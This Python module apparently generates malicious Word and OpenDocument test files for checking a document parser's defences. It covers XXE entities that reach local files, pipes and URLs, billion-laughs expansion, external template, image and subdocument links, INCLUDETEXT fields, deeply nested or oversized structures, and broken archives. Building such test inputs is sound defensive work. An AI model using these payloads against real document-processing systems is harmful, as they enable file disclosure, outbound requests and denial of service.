"""Word and OpenDocument: entities, links to elsewhere, bombs, parts that are missing or twice."""

from strangers.common import Lure, Make, entities, fixed, parameter, reaching, zipped

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"
_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    f'<Relationships xmlns="{_RELATED}"><Relationship Id="r1" '
    f'Type="{_KINDS}/officeDocument" Target="word/document.xml"/></Relationships>'
)
_ODT = "application/vnd.oasis.opendocument.text"
_OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
_PARAGRAPH = "<w:p><w:r><w:t>Dear Ada, we ask for a reply.</w:t></w:r></w:p>"


def word(body: str = _PARAGRAPH, doctype: str = "", *more: tuple[str, str | bytes]) -> bytes:
    """A Word file with this body."""
    text = (
        f'<?xml version="1.0"?>{doctype}<w:document {_W} {_R}><w:body>{body}</w:body></w:document>'
    )
    return zipped(
        ("[Content_Types].xml", _TYPES), ("_rels/.rels", _RELS), ("word/document.xml", text), *more
    )


def odt(
    body: str = "<text:p>Dear Ada</text:p>", doctype: str = "", *more: tuple[str, str]
) -> bytes:
    """An OpenDocument text with this body."""
    text = (
        f'<?xml version="1.0"?>{doctype}<office:document-content {_OFFICE}><office:body>'
        f"<office:text>{body}</office:text></office:body></office:document-content>"
    )
    return zipped(("mimetype", _ODT), ("content.xml", text), *more)


def _said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _external(kind: str, target: str) -> Make:
    def make(lure: Lure) -> bytes:
        where = target.format(url=lure.url, pipe=lure.pipe, canary=lure.canary)
        rels = (
            f'<Relationships xmlns="{_RELATED}"><Relationship Id="r9" Type="{_KINDS}/{kind}" '
            f'Target="{where}" TargetMode="External"/></Relationships>'
        )
        body = f'{_PARAGRAPH}<w:altChunk r:id="r9"/><w:subDoc r:id="r9"/>'
        return word(body, "", ("word/_rels/document.xml.rels", rels))

    return make


def _numbering(depth: int) -> bytes:
    """Styles that are based on one another in a circle."""
    style = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % depth}"/>'
        "</w:style>"
        for n in range(depth)
    )
    body = _PARAGRAPH.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr>')
    return word(body, "", ("word/styles.xml", f"<w:styles {_W}>{style}</w:styles>"))


_TABLE = "<w:tbl><w:tr><w:tc>"
FILES: dict[str, Make] = {
    "xxe-file.docx": lambda at: word(_said("&e;"), reaching(at.canary, "w:document")),
    "xxe-pipe.docx": lambda at: word(_said("&e;"), reaching(at.pipe, "w:document")),
    "xxe-web.docx": lambda at: word(_said("&e;"), reaching(at.url, "w:document")),
    "xxe-parameter.docx": lambda at: word(doctype=parameter(at.url, "w:document")),
    "laughs.docx": fixed(word(_said("&e12;"), entities(root="w:document"))),
    "remote-template.docx": _external("attachedTemplate", "{url}/t.dotm"),
    "remote-image.docx": _external("image", "{url}/i.png"),
    "remote-chunk.docx": _external("aFChunk", "{pipe}"),
    "file-subdocument.docx": _external("subDocument", "{canary}"),
    "remote-hyperlink.docx": _external("hyperlink", "{url}/h"),
    "includetext.docx": lambda at: word(
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT {at.canary}"><w:r><w:t>old</w:t></w:r>'
        "</w:fldSimple></w:p>"
    ),
    "deep-tables.docx": fixed(word(_TABLE * 3000 + _PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 3000)),
    "deep-runs.docx": fixed(word("<w:p>" + "<w:ins>" * 50_000 + "</w:ins>" * 50_000 + "</w:p>")),
    "million-paragraphs.docx": lambda _: word("<w:p/>" * 1_000_000),
    "million-runs.docx": lambda _: word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 500_000 + "</w:p>"),
    "bomb.docx": lambda _: word(f"<!--{' ' * 300_000_000}-->" + _PARAGRAPH),
    "wide-row.docx": lambda _: word(
        "<w:tbl><w:tr>" + f"<w:tc>{_PARAGRAPH}</w:tc>" * 50_000 + "</w:tr></w:tbl>"
    ),
    "gridspan.docx": fixed(
        word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
             f"{_PARAGRAPH}</w:tc></w:tr></w:tbl>")
    ),
    "style-circle.docx": fixed(_numbering(3)),
    "style-chain.docx": fixed(_numbering(20_000)),
    "twice.docx": fixed(word(_PARAGRAPH, "", ("word/document.xml", "<x/>"))),
    "no-body.docx": fixed(zipped(("word/document.xml", f"<w:document {_W}/>"))),
    "no-xml.docx": fixed(zipped(("word/document.xml", b"\0\xff\xfe" * 99))),
    "half-xml.docx": fixed(zipped(("word/document.xml", f"<w:document {_W}><w:body><w:p>"))),
    "utf16-laughs.docx": fixed(
        zipped(("word/document.xml", (entities() + "<x>&e12;</x>").encode("utf-16")))
    ),
    "truncated.docx": fixed(word()[:-60]),
    "xxe-file.odt": lambda at: odt("<text:p>&e;</text:p>", reaching(at.canary)),
    "xxe-pipe.odt": lambda at: odt("<text:p>&e;</text:p>", reaching(at.pipe)),
    "xxe-web.odt": lambda at: odt("<text:p>&e;</text:p>", parameter(at.url)),
    "laughs.odt": fixed(odt("<text:p>&e12;</text:p>", entities())),
    "remote-section.odt": lambda at: odt(
        f'<text:section text:name="s"><text:section-source xlink:href="{at.url}/s.odt"/>'
        f'</text:section><draw:image xlink:href="{at.pipe}"/><text:p>Dear Ada</text:p>'
    ),
    "spaces.odt": fixed(odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>')),
    "rows-repeated.odt": fixed(
        odt('<table:table><table:table-row table:number-rows-repeated="1000000000">'
            '<table:table-cell table:number-columns-repeated="1000000000"><text:p>a</text:p>'
            "</table:table-cell></table:table-row></table:table>")
    ),
    "deep.odt": fixed(odt("<text:section>" * 20_000 + "</text:section>" * 20_000)),
    "bomb.odt": lambda _: odt("<text:p>" + "a" * 300_000_000 + "</text:p>"),
    "no-content.odt": fixed(zipped(("mimetype", _ODT))),
    "stored.odt": fixed(zipped(("content.xml", "<x/>"), ("mimetype", _ODT), stored=True)),
}  # fmt: skip
